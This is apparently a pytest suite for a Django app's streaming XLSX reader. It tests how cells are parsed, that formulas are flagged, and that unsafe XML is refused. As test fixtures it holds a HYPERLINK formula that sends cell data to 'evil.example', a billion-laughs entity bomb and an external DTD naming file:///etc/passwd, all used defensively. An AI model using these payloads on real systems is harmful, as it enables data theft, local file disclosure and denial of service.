"""The streaming reader of uploaded workbooks (``evaluations.xlsx_stream`` under ``evaluations.workbook_reader``):
shared and inline strings, numbers and booleans read as openpyxl read them; formulas are errors; a DTD or an entity
in any XML part refuses the file, and nothing is written."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.choices import Role
from core.exceptions import DomainError
from evaluations import workbook_reader
from evaluations.models import Rating
from evaluations.services import workbooks as service
from evaluations.workbooks import HEADER
from tests.evaluations.test_workbooks import XLSX, put_on_site, template
from tests.factories import UserFactory, grant

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LIMITS = workbook_reader.Limits(
    max_bytes=1_048_576, max_entries=20, max_unpacked_bytes=10_485_760, max_ratio=100, max_rows=10
)
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
WORKBOOK = (
    f'<workbook xmlns="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="instructions" sheetId="1" r:id="rId1"/><sheet name="ratings" sheetId="2" r:id="rId2"/>'
    "</sheets></workbook>"
)
RELATIONSHIPS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
    '<Relationship Id="rId2" Target="/xl/worksheets/sheet2.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
    '<Relationship Id="rId3" Target="sharedStrings.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
    "</Relationships>"
)
SHARED = (
    f'<sst xmlns="{MAIN}" count="3" uniqueCount="3"><si><t>QMC-2024/E1</t></si>'
    "<si><r><rPr><b/></rPr><t>ye</t></r><r><t>s</t></r><rPh sb='0' eb='1'><t>phonetic</t></rPh></si>"
    "<si><t xml:space='preserve'> listed &amp; checked </t></si></sst>"
)


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def ann(db):
    return grant(UserFactory(username="ann"), Role.ASSESSOR)


def header_row() -> str:
    cells = "".join(
        f'<c r="{letter}1" t="inlineStr"><is><t>{text}</t></is></c>'
        for letter, text in zip("ABCDEFGH", HEADER, strict=True)
    )
    return f'<row r="1">{cells}</row>'


def sheet(rows: str, prolog: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN}"><sheetData>{header_row()}{rows}</sheetData></worksheet>'  # noqa: E501


def package(ratings: str, shared: str = SHARED, workbook: str = WORKBOOK) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", RELATIONSHIPS)
        archive.writestr("xl/sharedStrings.xml", shared)
        archive.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{MAIN}"><sheetData/></worksheet>')
        archive.writestr("xl/worksheets/sheet2.xml", ratings)
    return buffer.getvalue()


def test_inline_and_shared_string_cells_numbers_and_booleans_read_as_text():
    rows = (
        # shared strings: the code, a rich text run "ye"+"s" (phonetic guide left out), a comment with an entity
        '<row r="2"><c r="A2"><v>7</v></c><c r="B2" t="inlineStr"><is><t>91440300MA5ABCDE1X</t></is></c>'
        '<c r="D2" t="s"><v>0</v></c><c r="G2" t="s"><v>1</v></c><c r="H2" t="s"><v>2</v></c></row>'
        # inline strings, a rich inline run, a number typed as 0.50 and a boolean; a cell past column H is ignored
        '<row r="4"><c r="A4" t="n"><v>7</v></c><c r="B4" t="inlineStr"><is><t>91440300MA5ABCDE1X</t></is></c>'
        '<c r="D4" t="inlineStr"><is><r><t>QMC-2024/</t></r><r><rPr><i/></rPr><t>D1/1.1/L1</t></r></is></c>'
        '<c r="G4"><v>0.50</v></c><c r="H4" t="b"><v>1</v></c><c r="Z4"><f>1/0</f></c></row>'
        # no cell references: columns follow one another; an empty row is skipped
        '<row r="5"/><row><c><v>8</v></c><c t="inlineStr"><is><t>X</t></is></c><c/><c t="inlineStr"><is><t>'
        "QMC-2024/E2</t></is></c><c/><c/><c t='inlineStr'><is><t>N/A</t></is></c></row>"
    )
    read, problems = workbook_reader.read_rows(package(sheet(rows)), limits=LIMITS)
    assert problems == []
    assert [(r.number, r.evaluation, r.credit_code, r.code, r.value, r.comment) for r in read] == [
        (2, "7", "91440300MA5ABCDE1X", "QMC-2024/E1", "yes", "listed & checked"),
        (4, "7", "91440300MA5ABCDE1X", "QMC-2024/D1/1.1/L1", "0.5", "yes"),
        (6, "8", "X", "QMC-2024/E2", "na", ""),
    ]


def test_a_formula_is_an_error_naming_row_and_column_and_its_cached_result_is_not_read():
    rows = (
        '<row r="2"><c r="A2"><v>7</v></c><c r="D2" t="s"><v>0</v></c>'
        '<c r="G2" t="str"><f>IF(1,"yes","no")</f><v>yes</v></c>'
        '<c r="H2" t="str"><f>HYPERLINK("http://evil.example/?d="&amp;A1,"click")</f><v>click</v></c></row>'
    )
    read, problems = workbook_reader.read_rows(package(sheet(rows)), limits=LIMITS)
    assert [(p.kind, p.row, p.column, p.code) for p in problems] == [
        ("formula", 2, "G", "QMC-2024/E1"),
        ("formula", 2, "H", "QMC-2024/E1"),
    ]
    assert (read[0].value, read[0].comment) == ("", "")


BOMB = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'


@pytest.mark.parametrize(
    "parts",
    [
        {"ratings": sheet('<row r="2"><c r="A2" t="inlineStr"><is><t>&lol2;</t></is></c></row>', prolog=BOMB)},
        {"ratings": sheet("", prolog='<!DOCTYPE worksheet SYSTEM "file:///etc/passwd">')},
        {"ratings": sheet(""), "shared": BOMB + SHARED},
        {"ratings": sheet(""), "workbook": BOMB + WORKBOOK},
    ],
    ids=["entities in the sheet", "external DTD in the sheet", "shared strings", "workbook part"],
)
def test_a_dtd_or_entity_in_any_part_refuses_the_file(parts):
    with pytest.raises(workbook_reader.WorkbookRefused, match="DTD or entities") as refused:
        workbook_reader.read_rows(package(**parts), limits=LIMITS)
    assert refused.value.problem.kind == "unsafe_xml"


def test_malformed_xml_and_a_missing_sheet_are_clear_errors():
    with pytest.raises(workbook_reader.WorkbookRefused, match="damaged"):
        workbook_reader.read_rows(package(sheet("<row r='2'><c r='A2'><v>1</v></row>")), limits=LIMITS)
    with pytest.raises(workbook_reader.WorkbookRefused, match="no sheet named"):
        workbook_reader.read_rows(package(sheet(""), workbook=WORKBOOK.replace('"ratings"', '"Sheet1"')), limits=LIMITS)
    with pytest.raises(workbook_reader.WorkbookRefused, match="header row"):
        workbook_reader.read_rows(package(sheet("").replace('r="1"', 'r="2"')), limits=LIMITS)
    too_many = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(2, 14))
    with pytest.raises(workbook_reader.WorkbookRefused, match="more than 10 rows"):
        workbook_reader.read_rows(package(sheet(too_many)), limits=LIMITS)


def test_an_uploaded_template_with_an_entity_in_its_sheet_is_refused_and_nothing_written(draft, ann):
    on_site = put_on_site(draft, ann)
    source = zipfile.ZipFile(io.BytesIO(template(ann, on_site)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = BOMB.encode() + data.replace(b"<v>1</v>", b"<v>&lol2;</v>", 1)
            archive.writestr(info.filename, data)
    result, _ = service.workbook_upload(
        file=SimpleUploadedFile("ratings.xlsx", buffer.getvalue(), content_type=XLSX), by=ann
    )
    assert [p["kind"] for p in result.summary["errors"]] == ["unsafe_xml"]
    with pytest.raises(DomainError):
        service.workbook_apply_start(upload=result, by=ann)
    assert not Rating.objects.exists()
